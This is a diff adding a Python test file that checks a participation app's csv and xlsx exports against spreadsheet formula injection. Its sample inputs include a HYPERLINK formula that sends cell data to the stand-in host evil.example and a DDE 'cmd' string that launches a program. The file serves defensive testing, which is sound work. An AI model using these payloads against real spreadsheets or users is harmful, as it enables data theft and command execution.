@@ -1,0 +1,54 @@
+"""Formula injection (OWASP): what participants and facilitators typed reaches a spreadsheet as text, never as a formula."""
+
+import csv
+import io
+
+from openpyxl import load_workbook
+
+from widgets.model.sessions import SessionSpec
+from widgets.store.cells import FORMULA_STARTS, csv_cell, from_csv_cell
+from widgets.store.transfer import export_csv, export_palette_csv, export_xlsx, import_csv
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+           "'=1+1"]
+
+
+def hostile_session(store):
+    session, _ = store.create_session(SessionSpec(title="=cmd|' /C calc'!A0", topic="wonen", municipality="@Gouda",
+                                                  activities=("palet", "beoordelen")))
+    store.set_activity_open(session.id, "palet", True)
+    for i, text in enumerate(HOSTILE):
+        someone = store.join(session.code, "inwoner")
+        store.submit(someone.token, "palet", {f"v{i}": {"text": text, "cell": "individueel.materieel"}})
+    return session
+
+
+def test_no_cell_of_the_workbook_is_a_formula_and_every_text_is_kept(sqlite_store):
+    session = hostile_session(sqlite_store)
+    book = load_workbook(io.BytesIO(export_xlsx(sqlite_store, session.id)))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    # the merged palette sheet shows each value as typed (XML reads a CR back as a line feed;
+    # the kit's own validation never stores a CR, this one came straight into the store)
+    assert set(HOSTILE) - {"\r=1+1"} <= texts and "\n=1+1" in texts
+    assert "=cmd|' /C calc'!A0" in texts and "@Gouda" in texts
+
+
+def test_no_csv_cell_starts_a_formula_and_an_import_gives_the_same_words_back(sqlite_store):
+    session = hostile_session(sqlite_store)
+    for text in (export_csv(sqlite_store, session.id), export_palette_csv(sqlite_store, session.id)):
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert [c for c in cells if c[:1] in FORMULA_STARTS] == []
+    palette = list(csv.DictReader(io.StringIO(export_palette_csv(sqlite_store, session.id))))
+    assert palette[0]["text"] == "'" + HOSTILE[0]  # Excel shows the words, not a link
+
+    copy, _ = sqlite_store.create_session(SessionSpec(title="Kopie", topic="wonen", activities=("palet",)))
+    import_csv(sqlite_store, export_csv(sqlite_store, session.id), copy.id)
+    assert sorted(a["value"]["text"] for a in sqlite_store.answers(copy.id, "palet")) == sorted(HOSTILE)
+
+
+def test_the_apostrophe_comes_off_only_where_the_export_put_it():
+    for text in ["=1", "'=1", "''=1", "'plain", "plain", "", "-", "12-3", "€ -5"]:
+        assert from_csv_cell(csv_cell(text)) == text
+    assert csv_cell("plain") == "plain" and csv_cell("'plain") == "'plain" and csv_cell("=1") == "'=1"
